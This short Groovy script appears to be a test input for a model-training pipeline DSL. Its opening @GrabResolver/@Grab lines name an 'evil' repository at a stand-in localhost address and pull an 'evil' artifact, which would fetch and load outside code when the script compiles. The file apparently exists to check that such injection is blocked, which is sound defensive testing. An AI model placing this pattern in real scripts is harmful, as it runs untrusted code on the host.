@GrabResolver(name = 'evil', root = 'http://127.0.0.1:1/')
@Grab('org.example:evil:1.0')
def x = 1
pipeline('p') {
    prepare { dataset 'a.jsonl' }
    initialize { model 'm' }
    train { method lora() }

}
